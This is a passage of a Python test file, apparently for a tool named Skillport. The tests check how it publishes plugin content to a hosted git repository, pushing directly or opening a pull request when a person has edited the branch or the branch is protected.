    target = git_target(hosted.url, own_market, credential=hosted.writer, mode=Mode.PUSH)
    first = publish(target)
    assert first["status"] == Status.PUBLISHED and hosted.repo.branch_sha("main") == first["commit"]
    edit = person_commits(hosted.path, tmp_path, {"plugins/ops-kit/commands/deploy.md": "Deploy it my way.\n"})

    Skill.objects.filter(name="postmortem").update(policy=Policy.PROHIBITED)
    proposed = publish(target)
    assert proposed["status"] == Status.PROPOSED, proposed
    assert hosted.repo.branch_sha("main") == edit
    assert publish(target)["status"] == Status.UNCHANGED  # the open pull request proposes it already
    assert len(hosted.repo.pulls) == 1

    # Once a person merged it, what is on the branch is Skillport's again: the next change is pushed.
    hosted.gh.merge_pull("acme/published", 1)
    merge = hosted.repo.branch_sha("main")
    Skill.objects.filter(name="runbook").update(policy=Policy.PROHIBITED)
    pushed = publish(target)
    assert pushed["status"] == Status.PUBLISHED, pushed
    assert hosted.repo.git("rev-parse", "main^") == merge and len(hosted.repo.pulls) == 1


def test_a_protected_branch_on_github_gets_a_pull_request(git_target, own_market, hosted):
    target = git_target(hosted.url, own_market, credential=hosted.writer, mode=Mode.PUSH)
    hosted.gh.protect("acme/published", "main")
    base = hosted.repo.branch_sha("main")
    result = publish(target)
    assert result["status"] == Status.PROPOSED, result
    assert hosted.repo.branch_sha("main") == base and hosted.repo.pulls[1].base == "main"
